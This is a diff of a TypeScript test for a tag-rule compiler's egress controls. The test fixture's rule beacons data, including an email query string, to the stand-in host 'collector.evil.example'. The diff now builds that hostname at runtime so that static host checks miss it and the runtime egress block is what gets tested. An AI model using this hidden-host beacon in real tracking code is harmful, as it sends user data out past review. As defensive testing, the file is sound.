@@ -13,9 +13,10 @@ let sample: string;
 beforeAll(async () => {
   out = join(REPO, '.tagc-tmp', `egress-bundle-${process.pid}`);
   await compile({ root: REPO, outDir: out, envs: ['prod'] });
+  // The undeclared host is computed, as code can do: the network proof cannot see it, the egress point refuses it.
   sample = container('egress', {
     'rules/send.ts': ruleSource(
-      `{ id: 'send', description: 'x', events: ['Page Load Completed'], actions: [{ label: 'report', sends: 'necessary', hosts: ["'self'"], run: (ctx) => Promise.all([ctx.runtime.send('necessary', '/collect?email=jane%40gmail.com'), ctx.runtime.send('necessary', 'https://collector.evil.example/x', { via: 'image' }).catch(() => undefined)]) }] }`,
+      `{ id: 'send', description: 'x', events: ['Page Load Completed'], actions: [{ label: 'report', sends: 'necessary', hosts: ["'self'"], run: (ctx) => Promise.all([ctx.runtime.send('necessary', '/collect?email=jane%40gmail.com'), ctx.runtime.send('necessary', \`https://\${['collector', 'evil', 'example'].join('.')}/x\`, { via: 'image' }).catch(() => undefined)]) }] }`,
     ),
   });
   await compile({ root: sample, envs: ['prod'] });
